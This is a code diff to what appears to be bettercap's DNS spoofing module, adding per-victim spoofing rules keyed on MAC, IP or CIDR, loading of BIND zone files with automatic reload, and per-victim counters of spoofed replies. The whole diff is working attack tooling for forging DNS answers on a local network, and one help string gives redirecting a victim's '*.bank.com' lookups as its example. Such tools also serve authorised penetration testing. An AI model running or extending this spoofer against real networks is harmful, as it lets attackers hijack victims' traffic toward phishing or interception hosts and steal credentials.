@@ -6,6 +6,7 @@ import (
 	"net"
 	"strconv"
 	"sync"
+	"time"
 
 	"github.com/bettercap/bettercap/log"
 	"github.com/bettercap/bettercap/packets"
@@ -18,10 +19,15 @@ import (
 	"github.com/evilsocket/islazy/tui"
 )
 
+const zonesPollInterval = 2 * time.Second
+
 type DNSSpoofer struct {
 	session.SessionModule
 	Handle        *pcap.Handle
 	Hosts         Hosts
+	Zones         *Zones
+	Rules         *rulesTable
+	Address       net.IP
 	TTL           uint32
 	All           bool
 	waitGroup     *sync.WaitGroup
@@ -34,6 +40,8 @@ func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
 		Handle:        nil,
 		All:           false,
 		Hosts:         Hosts{},
+		Zones:         NewZones(),
+		Rules:         newRulesTable(),
 		TTL:           1024,
 		waitGroup:     &sync.WaitGroup{},
 	}
@@ -45,6 +53,11 @@ func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
 		"",
 		"If not empty, this hosts file will be used to map domains to IP addresses."))
 
+	mod.AddParam(session.NewStringParameter("dns.spoof.zones",
+		"",
+		"",
+		"Comma separated list of BIND zone files to load spoofed records from, they will be reloaded when modified."))
+
 	mod.AddParam(session.NewStringParameter("dns.spoof.domains",
 		"",
 		"",
@@ -64,6 +77,43 @@ func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
 		"^[0-9]+$",
 		"TTL of spoofed DNS replies."))
 
+	mod.AddHandler(session.NewModuleHandler("dns.spoof.rule VICTIM DOMAINS ADDRESS?", `dns\.spoof\.rule ([^\s]+) ([^\s]+)(?: ([^\s]+))?`,
+		"Spoof the comma separated DOMAINS only for the VICTIM (a MAC address, a MAC prefix, an IP address or a CIDR), mapping them to ADDRESS or to dns.spoof.address if not given. Rules are checked before the global records, for instance: dns.spoof.rule 192.168.1.10 *.bank.com",
+		func(args []string) error {
+			r, err := ParseRule(args[0], args[1], args[2])
+			if err != nil {
+				return err
+			}
+			mod.Rules.Add(r)
+			return nil
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dns.spoof.rules", "",
+		"Show the per victim rules.",
+		func(args []string) error {
+			return mod.showRules()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dns.spoof.rules.clear", "",
+		"Remove every per victim rule.",
+		func(args []string) error {
+			mod.Rules.Clear()
+			return nil
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dns.spoof.stats", "",
+		"Show how many spoofed replies have been sent to each victim and for which domains.",
+		func(args []string) error {
+			return mod.showStats()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dns.spoof.stats.clear", "",
+		"Reset the per victim counters.",
+		func(args []string) error {
+			mod.Rules.ClearStats()
+			return nil
+		}))
+
 	mod.AddHandler(session.NewModuleHandler("dns.spoof on", "",
 		"Start the DNS spoofer in the background.",
 		func(args []string) error {
@@ -96,6 +146,7 @@ func (mod *DNSSpoofer) Configure() error {
 	var ttl string
 	var hostsFile string
 	var domains []string
+	var zoneFiles []string
 	var address net.IP
 
 	if mod.Running() {
@@ -112,10 +163,13 @@ func (mod *DNSSpoofer) Configure() error {
 		return err
 	} else if err, hostsFile = mod.StringParam("dns.spoof.hosts"); err != nil {
 		return err
+	} else if err, zoneFiles = mod.ListParam("dns.spoof.zones"); err != nil {
+		return err
 	} else if err, ttl = mod.StringParam("dns.spoof.ttl"); err != nil {
 		return err
 	}
 
+	mod.Address = address
 	mod.Hosts = Hosts{}
 	for _, domain := range domains {
 		mod.Hosts = append(mod.Hosts, NewHostEntry(domain, address))
@@ -130,8 +184,15 @@ func (mod *DNSSpoofer) Configure() error {
 		}
 	}
 
-	if len(mod.Hosts) == 0 {
-		return fmt.Errorf("at least dns.spoof.hosts or dns.spoof.domains must be filled")
+	if err = mod.Zones.Load(zoneFiles); err != nil {
+		return fmt.Errorf("error loading zone files: %v", err)
+	} else if len(mod.Hosts) == 0 && mod.Zones.Empty() && mod.Rules.Empty() {
+		return fmt.Errorf("at least dns.spoof.hosts, dns.spoof.domains, dns.spoof.zones or a dns.spoof.rule must be set")
+	}
+
+	if !mod.Zones.Empty() {
+		zones, records := mod.Zones.Count()
+		mod.Info("loaded %d records from %d zones", records, zones)
 	}
 
 	for _, entry := range mod.Hosts {
@@ -157,13 +218,50 @@ func DnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.
 		who = t.String()
 	}
 
+	answers := make([]layers.DNSResourceRecord, 0)
+	for _, q := range req.Questions {
+		// do not include types we can't handle and that are not needed
+		// for successful spoofing anyway
+		// ref: https://github.com/bettercap/bettercap/issues/843
+		if q.Type.String() == "Unknown" {
+			continue
+		}
+
+		answers = append(answers,
+			layers.DNSResourceRecord{
+				Name:  []byte(q.Name),
+				Type:  q.Type,
+				Class: q.Class,
+				TTL:   TTL,
+				IP:    address,
+			})
+	}
+
+	dns := layers.DNS{
+		ID:        req.ID,
+		QR:        true,
+		OpCode:    layers.DNSOpCodeQuery,
+		QDCount:   req.QDCount,
+		Questions: req.Questions,
+		Answers:   answers,
+	}
+
+	if !sendDnsPacket(s, pkt, peth, pudp, &dns, target) {
+		return "", ""
+	}
+
+	return redir, who
+}
+
+// send a reply to the request in pkt with the given DNS layer
+func sendDnsPacket(s *session.Session, pkt gopacket.Packet, peth *layers.Ethernet, pudp *layers.UDP, dns *layers.DNS, target net.HardwareAddr) bool {
 	var err error
 	var src, dst net.IP
 
 	nlayer := pkt.NetworkLayer()
 	if nlayer == nil {
 		log.Debug("missing network layer skipping packet.")
-		return "", ""
+		return false
 	}
 
 	var eType layers.EthernetType
@@ -190,34 +288,6 @@ func DnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.
 		EthernetType: eType,
 	}
 
-	answers := make([]layers.DNSResourceRecord, 0)
-	for _, q := range req.Questions {
-		// do not include types we can't handle and that are not needed
-		// for successful spoofing anyway
-		// ref: https://github.com/bettercap/bettercap/issues/843
-		if q.Type.String() == "Unknown" {
-			continue
-		}
-
-		answers = append(answers,
-			layers.DNSResourceRecord{
-				Name:  []byte(q.Name),
-				Type:  q.Type,
-				Class: q.Class,
-				TTL:   TTL,
-				IP:    address,
-			})
-	}
-
-	dns := layers.DNS{
-		ID:        req.ID,
-		QR:        true,
-		OpCode:    layers.DNSOpCodeQuery,
-		QDCount:   req.QDCount,
-		Questions: req.Questions,
-		Answers:   answers,
-	}
-
 	var raw []byte
 
 	if ipv6 {
@@ -236,10 +306,10 @@ func DnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.
 
 		udp.SetNetworkLayerForChecksum(&ip6)
 
-		err, raw = packets.Serialize(&eth, &ip6, &udp, &dns)
+		err, raw = packets.Serialize(&eth, &ip6, &udp, dns)
 		if err != nil {
 			log.Error("error serializing ipv6 packet: %s.", err)
-			return "", ""
+			return false
 		}
 	} else {
 		ip4 := layers.IPv4{
@@ -257,20 +327,47 @@ func DnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.
 
 		udp.SetNetworkLayerForChecksum(&ip4)
 
-		err, raw = packets.Serialize(&eth, &ip4, &udp, &dns)
+		err, raw = packets.Serialize(&eth, &ip4, &udp, dns)
 		if err != nil {
 			log.Error("error serializing ipv4 packet: %s.", err)
-			return "", ""
+			return false
 		}
 	}
 
 	log.Debug("sending %d bytes of packet ...", len(raw))
 	if err := s.Queue.Send(raw); err != nil {
 		log.Error("error sending packet: %s", err)
-		return "", ""
+		return false
 	}
 
-	return redir, who
+	return true
+}
+
+// reply to the request with the records, authority and response code from the zones
+func (mod *DNSSpoofer) zoneReply(pkt gopacket.Packet, peth *layers.Ethernet, pudp *layers.UDP, req *layers.DNS, answer *ZoneAnswer) bool {
+	dns := layers.DNS{
+		ID:           req.ID,
+		QR:           true,
+		AA:           true,
+		RD:           req.RD,
+		OpCode:       layers.DNSOpCodeQuery,
+		ResponseCode: layers.DNSResponseCode(answer.Rcode),
+		QDCount:      req.QDCount,
+		Questions:    req.Questions,
+		Answers:      toResourceRecords(answer.Answers),
+		Authorities:  toResourceRecords(answer.Authority),
+	}
+
+	return sendDnsPacket(mod.Session, pkt, peth, pudp, &dns, peth.SrcMAC)
+}
+
+func sourceIP(pkt gopacket.Packet) net.IP {
+	if ip4, ok := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4); ok {
+		return ip4.SrcIP
+	} else if ip6, ok := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6); ok {
+		return ip6.SrcIP
+	}
+	return nil
 }
 
 func (mod *DNSSpoofer) onPacket(pkt gopacket.Packet) {
@@ -285,11 +382,26 @@ func (mod *DNSSpoofer) onPacket(pkt gopacket.Packet) {
 		dns, parsed := pkt.Layer(layers.LayerTypeDNS).(*layers.DNS)
 		if parsed && dns.OpCode == layers.DNSOpCodeQuery && len(dns.Questions) > 0 && len(dns.Answers) == 0 {
 			udp := typeUDP.(*layers.UDP)
+			victim := sourceIP(pkt)
 			for _, q := range dns.Questions {
 				qName := string(q.Name)
-				if address := mod.Hosts.Resolve(qName); address != nil {
+				if rule, address := mod.Rules.Resolve(eth.SrcMAC, victim, qName, mod.Address); rule != nil {
 					redir, who := DnsReply(mod.Session, mod.TTL, pkt, eth, udp, qName, address, dns, eth.SrcMAC)
 					if redir != "" && who != "" {
+						mod.Rules.Hit(rule, eth.SrcMAC, victim, qName)
+						mod.Info("sending spoofed DNS reply for %s %s to %s (rule %s).", tui.Red(qName), tui.Dim(redir), tui.Bold(who), rule.Victim)
+					}
+					break
+				} else if answer, found := mod.Zones.Lookup(qName, uint16(q.Type)); found {
+					if mod.zoneReply(pkt, eth, udp, dns, answer) {
+						mod.Rules.Hit(nil, eth.SrcMAC, victim, qName)
+						mod.Info("sending spoofed DNS reply for %s %s (%d records) to %s.", tui.Red(qName), tui.Dim(q.Type.String()), len(answer.Answers), tui.Bold(eth.SrcMAC.String()))
+					}
+					break
+				} else if address := mod.Hosts.Resolve(qName); address != nil {
+					redir, who := DnsReply(mod.Session, mod.TTL, pkt, eth, udp, qName, address, dns, eth.SrcMAC)
+					if redir != "" && who != "" {
+						mod.Rules.Hit(nil, eth.SrcMAC, victim, qName)
 						mod.Info("sending spoofed DNS reply for %s %s to %s.", tui.Red(qName), tui.Dim(redir), tui.Bold(who))
 					}
 					break
@@ -310,6 +422,10 @@ func (mod *DNSSpoofer) Start() error {
 		mod.waitGroup.Add(1)
 		defer mod.waitGroup.Done()
 
+		if !mod.Zones.Empty() {
+			go mod.zonesWatcher()
+		}
+
 		src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
 		mod.pktSourceChan = src.Packets()
 		for packet := range mod.pktSourceChan {
@@ -322,6 +438,22 @@ func (mod *DNSSpoofer) Start() error {
 	})
 }
 
+// reload the zone files when they're modified
+func (mod *DNSSpoofer) zonesWatcher() {
+	for mod.Running() {
+		time.Sleep(zonesPollInterval)
+
+		if mod.Zones.Changed() {
+			if err := mod.Zones.Load(mod.Zones.Files()); err != nil {
+				mod.Error("error reloading zone files, keeping the previous records: %v", err)
+			} else {
+				zones, records := mod.Zones.Count()
+				mod.Info("reloaded %d records from %d zones", records, zones)
+			}
+		}
+	}
+}
+
 func (mod *DNSSpoofer) Stop() error {
 	return mod.SetRunning(false, func() {
 		mod.pktSourceChan <- nil